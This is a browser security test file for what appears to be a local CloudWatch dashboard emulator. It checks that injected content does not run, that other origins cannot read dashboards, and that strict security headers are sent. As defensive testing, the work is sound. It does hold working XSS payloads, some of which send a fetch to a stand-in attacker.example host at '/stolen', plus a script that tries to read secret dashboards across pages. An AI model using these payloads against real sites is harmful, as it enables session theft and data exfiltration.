// What may be in a dashboard, in an address or on another page, and must not run or read anything: in a real browser.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { PutMetricAlarmCommand } from '@aws-sdk/client-cloudwatch';
import { CreateBucketCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import type { Page } from 'playwright-core';
import { startBrowser, type TestBrowser, WITHOUT_BROWSER } from '../support/browser.ts';
import {
  type Dashboards,
  dashboardsOn,
  isRead,
  logWidget,
  metricWidget,
  openDashboard,
  troubleOn,
} from '../support/dashboards.ts';
import { startTestMillpond, type TestMillpond } from '../support/millpond.ts';
import { startWebSite, type WebSite } from '../support/web-site.ts';

const ATTACKER = 'attacker.example';
const SECRET = 'secret-dashboard';

let millpond: TestMillpond;
let browser: TestBrowser;
let dashboards: Dashboards;
let site: WebSite;
let s3: S3Client;

/** Each would set `attacked`, or ask the attacker's site. */
const payloads = (): string[] => {
  const steal = `globalThis.attacked=1;fetch('${site.originOf(ATTACKER)}/stolen')`;
  return [
    `<script>${steal}</script>`,
    `<img src=x onerror="${steal}">`,
    `<svg onload="${steal}"><animate onbegin="${steal}">`,
    `"><iframe srcdoc="<script>parent.attacked=1</script>">`,
    `'-${steal}-'`,
    `[a](javascript:${encodeURIComponent(steal)})`,
    `[a](<javascript:globalThis.attacked=1>)`,
    `[a](data:text/html,<script>1</script>)`,
    `![a](${site.originOf(ATTACKER)}/image.png "x\\" onerror=\\"${steal}")`,
    `<a href="javascript:globalThis.attacked=1">a</a>`,
    `<style>@import url(${site.originOf(ATTACKER)}/style.css)</style><link rel=stylesheet href=${site.originOf(ATTACKER)}/a.css>`,
    `<base href="${site.originOf(ATTACKER)}/"><form action=//${ATTACKER}><button>x</button></form>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked=1&gt;">`,
  ];
};

/** Whether something ran, or is in the document that the page's own scripts do not make. */
async function harmIn(page: Page): Promise<unknown> {
  // What would run later has run by then.
  await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)))');
  return await page.evaluate(`({
    attacked: globalThis.attacked,
    elements: [...document.querySelectorAll('#page :is(script, img, iframe, object, embed, base, form, style, link, animate, math)')]
      .map((one) => one.outerHTML),
    links: [...document.querySelectorAll('#page a')].map((one) => one.protocol).filter((one) => !/^(https?|mailto):$/.test(one)),
    handlers: [...document.querySelectorAll('*')].flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith('on')),
  })`);
}

const NO_HARM = { attacked: undefined, elements: [], links: [], handlers: [] };

describe('dashboards under attack', { skip: WITHOUT_BROWSER }, () => {
  before(async () => {
    site = await startWebSite();
    [millpond, browser] = await Promise.all([startTestMillpond(), startBrowser({ names: [ATTACKER] })]);
    dashboards = dashboardsOn(millpond.url);
    const credentials = { accessKeyId: 'test', secretAccessKey: 'test' };
    s3 = new S3Client({ endpoint: millpond.url, region: 'us-east-1', credentials, forcePathStyle: true });
    await dashboards.put(SECRET, { widgets: [{ type: 'text', properties: { markdown: 'secret text' } }] });
  });
  after(async () => {
    await browser?.stop();
    dashboards?.stop();
    s3?.destroy();
    await millpond?.stop();
    await site?.stop();
  });

  it('texts of a dashboard are shown as the texts that they are', async (test) => {
    const all = payloads();
    await dashboards.events(
      '/attack',
      all.map((payload) => ({ [`field ${payload.slice(0, 30)}`]: 1, payload })),
    );
    await dashboards.values('Attack', all[1]!, 'h', [1, 2]);
    const alarm = `<img src=x onerror=attacked=1>`;
    await dashboards.cloudwatch.send(
      new PutMetricAlarmCommand({
        ...{ AlarmName: alarm, AlarmDescription: all[0]!, Namespace: 'Attack', MetricName: all[1]! },
        ...{ Period: 60, EvaluationPeriods: 1, Threshold: 1, Statistic: 'Sum' },
        ComparisonOperator: 'GreaterThanThreshold',
      }),
    );
    const alarms = [`arn:aws:cloudwatch:us-east-1:000000000000:alarm:${alarm}`, all[0]!];
    const views = ['timeSeries', 'singleValue', 'gauge', 'bar', 'pie', 'table'];
    const widgets = [
      ...all.map((markdown) => ({ type: 'text', properties: { markdown } })),
      { type: 'text', properties: { markdown: all.join('\n\n') } },
      ...all.map((title) =>
        metricWidget([0, 0, 6, 3], { title, metrics: [['Attack', all[1]!, 'Host', 'h']] }),
      ),
      ...views.map((view, index) =>
        metricWidget([0, 0, 12, 6], {
          ...{ title: all[1], view, yAxis: { left: { label: all[0] } } },
          metrics: [
            ['Attack', all[1]!, 'Host', 'h', { label: all[index]! }],
            [{ expression: `${all[1]} +`, label: all[2] }],
          ],
          annotations: { horizontal: [{ value: 1, label: all[0] }], alarms },
        }),
      ),
      { type: 'alarm', properties: { title: all[2], alarms } },
      ...['table', 'timeSeries', 'bar', 'pie'].map((view) =>
        logWidget([0, 0, 12, 6], {
          ...{ title: all[0], view },
          query: `SOURCE '/attack' | stats count(*) as \`${'<img src=x onerror=attacked=1>'}\` by payload${view === 'timeSeries' ? ', bin(30s)' : ''}`,
        }),
      ),
      logWidget([0, 0, 24, 6], { title: all[0], query: "SOURCE '/attack' | fields @message, payload" }),
      logWidget([0, 0, 24, 6], { title: all[0], query: `SOURCE '/${all[1]}' | ${all[0]}` }),
    ];
    await dashboards.put('attack', { widgets });
    const page = await browser.page(test);
    const trouble = troubleOn(page, millpond.url);
    await openDashboard(page, `${millpond.url}/_millpond/dashboards/attack?refresh=0`);
    assert.equal(await page.locator('.widget').count(), widgets.length);
    assert.deepEqual(await harmIn(page), NO_HARM);
    assert.match(await page.locator('.markdown').first().innerText(), /^<script>globalThis/);
    // Under the pointer, too.
    for (const over of await page.locator('.u-over').all()) await over.hover({ force: true }).catch(() => {});
    assert.deepEqual(await harmIn(page), NO_HARM);
    assert.deepEqual(trouble, []);
  });

  it('a body with wrong members is told without being run', async (test) => {
    // Such a body was stored before bodies were checked, or by another CloudWatch; here, by its warnings.
    await dashboards.put('wrong', { widgets: [], variables: [{ id: '<img src=x onerror=attacked=1>' }] });
    const page = await browser.page(test);
    const trouble = troubleOn(page, millpond.url);
    await openDashboard(page, `${millpond.url}/_millpond/dashboards/wrong`);
    await page.locator('.notes').waitFor();
    assert.deepEqual(await harmIn(page), NO_HARM);
    assert.deepEqual(trouble, []);
  });

  it('names and views in an address are texts as well', async (test) => {
    const page = await browser.page(test);
    const trouble = troubleOn(page, millpond.url);
    for (const payload of payloads()) {
      const encoded = encodeURIComponent(payload);
      for (const path of [
        `/_millpond/dashboards/${encoded}?region=${encoded}&account=${encoded}&start=${encoded}`,
        `/cloudwatch/home?region=${encoded}#dashboards:name=${encoded}`,
        `/cloudwatch/home#${payload}`,
      ]) {
        await page.goto('about:blank');
        await page.goto(`${millpond.url}${path}`, { waitUntil: 'domcontentloaded' });
        await page.locator('main').waitFor();
        assert.deepEqual(await harmIn(page), NO_HARM, path);
        assert.ok(page.url().startsWith(`${millpond.url}/`), page.url());
      }
    }
    // The browser itself tells of refused requests.
    assert.deepEqual(
      trouble.filter((one) => !/^Failed to load resource: .*\b(400|404)\b/.test(one)),
      [],
    );
  });

  it('a page of another origin reads nothing, and shows nothing in a frame', async (test) => {
    const paths = [
      ...['/_millpond/dashboards', `/_millpond/dashboards/${SECRET}`, `/_millpond/dashboards/${SECRET}/data`],
      '/cloudwatch/home',
    ];
    for (const origin of [site.originOf(ATTACKER), site.originOf('127.0.0.1'), site.originOf('localhost')]) {
      const page = await browser.page(test);
      await page.goto(origin);
      for (const path of paths) {
        const url = JSON.stringify(`${millpond.url}${path}`);
        const read = `Promise.all([{}, { mode: 'no-cors' }, { credentials: 'include' }, { headers: { accept: 'text/html' } }]
          .map((options) => fetch(${url}, options).then((answer) => answer.text(), () => '')))`;
        assert.deepEqual(await page.evaluate(read), ['', '', '', ''], path);
        const script = `new Promise((resolve) => {
          const script = document.createElement('script');
          script.src = ${url};
          script.onload = () => resolve('ran');
          script.onerror = () => resolve('refused');
          document.head.append(script);
        })`;
        assert.equal(await page.evaluate(script), 'refused', path);
      }
      // A link does not lead to it, because the page that has the link could go on from there.
      site.put('/link', `<a href="${millpond.url}/_millpond/dashboards/${SECRET}">here</a>`);
      await page.goto(`${origin}/link`);
      await page.click('a');
      await page.getByText('To open this page, enter its address in the address bar.').waitFor();
      site.put('/framing', paths.map((path) => `<iframe src="${millpond.url}${path}"></iframe>`).join(''));
      await page.goto(`${origin}/framing`);
      for (const frame of page.frames().slice(1)) {
        assert.ok(!(await frame.content()).includes('id="page"'), frame.url());
      }
    }
  });

  it('a page that is stored in a bucket has no more power over it', async (test) => {
    await s3.send(new CreateBucketCommand({ Bucket: 'bucket' }));
    const script = `<!doctype html><script>
      globalThis.result = (async () => {
        const found = [];
        for (const path of ['/_millpond/dashboards', '/_millpond/dashboards/${SECRET}/data', '/_millpond/dashboards/${SECRET}'])
          found.push(await fetch(path).then((answer) => answer.text(), () => ''));
        const frame = document.createElement('iframe');
        frame.src = '/_millpond/dashboards/${SECRET}';
        document.body.append(frame);
        await new Promise((resolve) => (frame.onload = resolve));
        try { found.push(frame.contentDocument?.body.innerHTML ?? ''); } catch { found.push(''); }
        const opened = open('/_millpond/dashboards/${SECRET}');
        await new Promise((resolve) => setTimeout(resolve, 0));
        try { found.push(opened?.document.body.innerHTML ?? ''); } catch { found.push(''); }
        return found;
      })();
    </script><body>`;
    const put = (Bucket: string, Key: string, ContentType: string, Body: string) =>
      s3.send(new PutObjectCommand({ Bucket, Key, ContentType, Body }));
    await put('bucket', 'page.html', 'text/html', script);
    await put('bucket', 'run.js', 'text/javascript', 'globalThis.attacked = 1');
    const page = await browser.page(test);
    await page.goto(`${millpond.url}/bucket/page.html`);
    assert.deepEqual(await page.evaluate('result'), ['', '', '', '', '']);

    // Were there a way to put an element into the page, a script of a bucket would not run in it.
    await page.goto(`${millpond.url}/_millpond/dashboards/${SECRET}`);
    await isRead(page);
    const refused = `new Promise((resolve) => {
      const script = document.createElement('script');
      script.onerror = () => resolve('refused');
      try { script.src = '/bucket/run.js'; document.head.append(script); } catch { resolve('refused'); }
    })`;
    assert.equal(await page.evaluate(refused), 'refused');
    const html = `(() => { try { document.body.innerHTML = '<img src=x onerror=attacked=1>'; return 'set'; } catch { return 'refused'; } })()`;
    assert.equal(await page.evaluate(html), 'refused');
    assert.deepEqual(await harmIn(page), NO_HARM);
  });

  it('an object `home` of a bucket `cloudwatch` is still read by programs', async () => {
    await s3.send(new CreateBucketCommand({ Bucket: 'cloudwatch' }));
    await s3.send(new PutObjectCommand({ Bucket: 'cloudwatch', Key: 'home', Body: 'an object' }));
    const url = `${millpond.url}/cloudwatch/home`;
    assert.equal(await (await fetch(url)).text(), 'an object');
    const page = await fetch(url, { headers: { accept: 'text/html' } });
    assert.match(await page.text(), /^<!doctype html>/);
  });

  it('data is only read, within bounds, and what is wrong with a request is told', async () => {
    const ask = async (path: string, init?: RequestInit) => {
      const answer = await fetch(`${millpond.url}/_millpond/dashboards${path}`, init);
      return `${answer.status} ${await answer.text()}`;
    };
    assert.match(await ask('/none/data'), /^404 .*Dashboard none does not exist/);
    assert.match(await ask('/a%2Fb/data'), /^400 .*name of a dashboard/);
    assert.match(await ask(`/${SECRET}/data?start=yesterday`), /^400 .*start and end/);
    assert.match(await ask(`/${SECRET}/data?end=-PT1H`), /^400 .*An end needs a start/);
    assert.match(await ask(`/${SECRET}/data?period=7`), /^400 .*period must be/);
    for (const method of ['POST', 'PUT', 'DELETE'])
      assert.match(await ask(`/${SECRET}/data`, { method }), /^405 /);
    assert.match(await ask(`/${SECRET}/data`), /^200 \{"head":true,.*secret text.*\{"end":true\}\n$/s);
    assert.match(await ask(`/${SECRET}/data?account=111111111111`), /^404 /);
    const { headers } = await fetch(`${millpond.url}/_millpond/dashboards`, {
      headers: { accept: 'text/html' },
    });
    const policy = headers.get('content-security-policy')!;
    assert.match(
      policy,
      /^default-src 'none'; script-src 'nonce-[^']+'; style-src 'nonce-[^']+'; img-src data:; connect-src 'self'; /,
    );
    assert.doesNotMatch(policy, /unsafe|\*|https?:/);
    assert.deepEqual(
      [
        'x-frame-options',
        'x-content-type-options',
        'cache-control',
        'cross-origin-resource-policy',
        'set-cookie',
      ].map((name) => headers.get(name)),
      ['DENY', 'nosniff', 'no-store', 'same-origin', null],
    );
  });
});
